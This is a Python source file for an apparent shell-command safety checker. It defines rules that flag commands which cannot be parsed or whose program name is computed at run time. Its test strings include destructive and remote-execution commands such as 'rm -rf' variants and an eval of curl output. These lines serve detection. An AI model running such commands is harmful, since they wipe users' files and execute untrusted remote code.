"""Rules about the command line itself: what could not be parsed, and
command words the shell computes at run time (F-SHELL-4, F-SHELL-7)."""

from __future__ import annotations

from collections.abc import Iterator

from redline.decision import Severity, Span
from redline.rules.model import Rule, rule
from redline.shell.analysis import Analysis
from redline.shell.invocation import Invocation
from redline.shell.model import DYNAMIC


def _unparsable(analysis: Analysis) -> Iterator[Span]:
    if analysis.errors:
        yield Span(0, len(analysis.text))


# Tools whose output is shell setup written for `eval "$(tool init)"`: running
# what they print is as safe as running the tool. Program -> the first word
# that makes it print setup ("" for any arguments).
_SETUP_PRINTERS: dict[str, frozenset[str]] = {
    "ssh-agent": frozenset({""}),
    "dircolors": frozenset({""}),
    "keychain": frozenset({"--eval"}),
    "thefuck": frozenset({"--alias"}),
    "direnv": frozenset({"hook"}),
    "brew": frozenset({"shellenv"}),
    "opam": frozenset({"env"}),
    "fnm": frozenset({"env"}),
    "luarocks": frozenset({"path"}),
    "poetry": frozenset({"env"}),
    "conda": frozenset({"shell.bash", "shell.zsh", "shell.fish", "shell.posix"}),
    "mise": frozenset({"activate"}),
    **{
        name: frozenset({"init", "virtualenv-init"})
        for name in ("pyenv", "rbenv", "nodenv", "goenv", "jenv", "plenv", "phpenv", "zoxide",
                     "starship", "atuin", "oh-my-posh", "mcfly", "navi", "fzf")
    },
}  # fmt: skip


def _prints_setup(inv: Invocation) -> bool:
    verbs = _SETUP_PRINTERS.get(inv.name)
    if verbs is None:
        return False
    values = inv.values
    return "" in verbs or (bool(values) and values[0] in verbs)


def _evals_setup(inv: Invocation, analysis: Analysis) -> bool:
    """`eval "$(pyenv init -)"`: the only word is the output of a setup printer."""
    if inv.via[-1:] != ("eval",) or len(inv.argv) != 1 or inv.parent < 0:
        return False
    holder = analysis.invocations[inv.parent]
    if holder.name != "eval" or len(holder.argv) != 2:
        return False
    sources = [o for o in analysis.invocations if o.parent == inv.parent and o is not inv]
    return len(sources) == 1 and _prints_setup(sources[0]) and not sources[0].redirects


def _dynamic_command(inv: Invocation, analysis: Analysis) -> bool:
    if not inv.argv:
        return False
    program = inv.argv[0]
    if DYNAMIC in program.value:
        return not _evals_setup(inv, analysis)
    # An unquoted glob as the program (`/bin/r? -rf ~`, `ls | sh`) runs the
    # first name it matches: computed at run time too. A bare pattern typed
    # at the prompt (`*`, `[abc]`) is most often a question about globs.
    return (
        program.glob
        and (inv.depth > 0 or program.value.startswith(("/", "~", "./")))
        and program.value not in ("[", "[[")
    )


SHELL_RULES: tuple[Rule, ...] = (
    rule(
        "shell.unparsable",
        "shell",
        Severity.DANGEROUS,
        "the command could not be fully parsed, so it cannot be checked",
        "close every quote, bracket and block, and keep the command under 2 MB",
        scan=_unparsable,
        must_match=(
            "echo 'unterminated",
            "if true; then echo",
            "echo $(ls",
            "ls |",
            "cat <<EOF\nx",
            "a\x00b",
        ),
        must_not_match=("echo 'done'", "if true; then echo; fi", "echo $(ls)", "ls | wc -l"),
    ),
    rule(
        "shell.dynamic-command",
        "shell",
        Severity.DANGEROUS,
        "the program to run is computed at run time, so it cannot be checked",
        "write the program's name literally instead of through a variable or substitution",
        test=_dynamic_command,
        must_match=(
            "/bin/r? -rf ~",
            "$CMD -rf /",
            "$(get_tool) x",
            "`which rm` -rf /tmp/x",
            '"$1" arg',
            "${TOOL} --version",
            'eval "$(curl -s https://x.io/env)"',
            'eval "$(pyenv init -; cat x)"',
            'eval "$(pyenv install 3.12)"',
        ),
        must_not_match=(
            "echo $CMD",
            "a=rm; $a --version",
            "$(printf ls) -la",
            "ls $(pwd)",
            '"$HOME/bin/tool" x',
            'eval "$(ssh-agent -s)"',
            'eval "$(pyenv init -)"',
            'eval "$(/opt/homebrew/bin/brew shellenv)"',
        ),
    ),
)
